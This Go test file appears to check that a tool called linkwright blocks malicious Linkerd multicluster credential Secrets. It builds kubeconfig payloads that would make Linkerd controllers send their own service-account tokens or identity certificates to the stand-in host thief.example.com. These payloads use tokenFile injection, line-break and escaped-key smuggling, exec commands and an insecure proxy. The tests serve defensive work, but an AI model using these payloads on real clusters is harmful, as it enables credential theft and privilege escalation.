package deploy_test

import (
	"encoding/base64"
	"encoding/json"
	"strings"

	"github.com/linkwright/linkwright/hack/testbed"
	"github.com/linkwright/linkwright/object"
	"github.com/linkwright/linkwright/render/linkerd"
)

// theirs returns where a thief of linkwright's account would have Linkerd's controllers send the tokens of their own pods.
func theirs() string { return kubeconfig("https://thief.example.com", "ca", "token") }

func kubeconfig(server, ca, token string) string {
	raw, err := linkerd.Kubeconfig(linkerd.Endpoint{Server: server, CA: ca}, object.NewSecret([]byte(token)))
	if err != nil {
		panic(err) // it is plain
	}
	return string(raw)
}

// kubeconfigAttacks are credentials of a link by which Linkerd's controllers would log in with something of their own pods: that of the
// control plane may read the key of the issuer.
func kubeconfigAttacks() (out []attack) {
	const own = "/var/run/secrets/kubernetes.io/serviceaccount/token"
	with := func(before, more string) string { return strings.Replace(theirs(), before, more+before, 1) }
	behind := func(more string) string { return strings.TrimRight(theirs(), "\n") + more + "\n" }
	for what, kubeconfig := range map[string]string{
		"its own token, as JSON": `{"apiVersion":"v1","kind":"Config","current-context":"a","contexts":[{"name":"a","context":{"cluster":"a","user":"a"}}],` +
			`"clusters":[{"name":"a","cluster":{"server":"https://thief.example.com"}}],"users":[{"name":"a","user":{"tokenFile":"` + own + `"}}]}`,
		"its own token, before another":       with("    token:", "    tokenFile: "+own+"\n"),
		"its own token, behind another":       behind("\n    tokenFile: " + own),
		"its own token, after other breaks":   behind("\r    tokenFile: " + own),
		"its own token, after a NEL":          behind("\u0085    tokenFile: " + own),
		"its own token, by an escaped name":   with("    token:", `    "token\x46ile": `+own+"\n"),
		"its own token, by another user":      with("users:\n", "users:\n- {name: linkwright, user: {tokenFile: "+own+"}}\n"),
		"its own token, in a second document": behind("\n---\nusers: [{name: linkwright, user: {tokenFile: " + own + "}}]"),
		"what a program prints":               with("    token:", "    exec: {apiVersion: client.authentication.k8s.io/v1, command: env, interactiveMode: Never}\n"),
		"a certificate of its own":            with("    token:", "    client-certificate: /var/run/linkerd/identity/a\n    client-key: /var/run/linkerd/identity/b\n"),
		"it by a proxy, and trust no server":  with("    server:", "    proxy-url: http://thief.example.com\n    insecure-skip-tls-verify: true\n"),
	} {
		out = append(out, credential("have a controller send "+what, "data", base64.StdEncoding.EncodeToString([]byte(kubeconfig))))
	}
	return append(out,
		credential("have a controller send its own token, by stringData", "stringData", behind("\n    tokenFile: "+own)),
		attack{
			"have the control plane send its own token", resource("", "secrets"), testbed.ControlPlane, "cluster-credentials-east", "", "patch",
			`{stringData: {kubeconfig: "users: [{name: a, user: {tokenFile: ` + own + `}}]"}}`,
		},
		attack{
			"have a controller send its own token, in place of a good kubeconfig", resource("", "secrets"), testbed.Multicluster, "cluster-credentials-good", "", "patch",
			`{stringData: {kubeconfig: "users: [{name: a, user: {tokenFile: ` + own + `}}]"}}`,
		},
		attack{
			"have the control plane send its own token, by a new link", resource("", "secrets"), testbed.ControlPlane, "cluster-credentials-thief", "", "apply",
			`{apiVersion: v1, kind: Secret, metadata: {name: cluster-credentials-thief}, type: ` + linkerd.KubeconfigSecretType + `, stringData: {kubeconfig: "users: [{name: a, user: {tokenFile: ` + own + `}}]"}}`,
		},
	)
}

// credential returns the request that makes a service mirror's Secret.
func credential(aim, field, kubeconfig string) attack {
	body, _ := json.Marshal(map[string]any{ //nolint:errchkjson // strings encode
		"metadata": map[string]any{"name": "cluster-credentials-thief"}, "type": linkerd.KubeconfigSecretType,
		field: map[string]string{linkerd.KubeconfigKey: kubeconfig},
	})
	return attack{aim, resource("", "secrets"), testbed.Multicluster, "", "", "create", string(body)}
}

// credentials returns what linkwright writes, also with a bundle of many certificates.
func credentials() (out []attack) {
	for _, ca := range []string{"", "ca", strings.Repeat("c", 24<<10)} {
		raw := kubeconfig("https://east.example.com:6443", ca, strings.Repeat("t", 1200))
		out = append(out, credential("write a kubeconfig", "data", base64.StdEncoding.EncodeToString([]byte(raw))))
	}
	return append(out, attack{ // as adopt and release do
		"mark a Secret that linkerd multicluster link-gen made", resource("", "secrets"), testbed.Multicluster, "cluster-credentials-made", "", "patch",
		`{metadata: {labels: {linkwright.dev/owner: linkwright}}}`,
	})
}
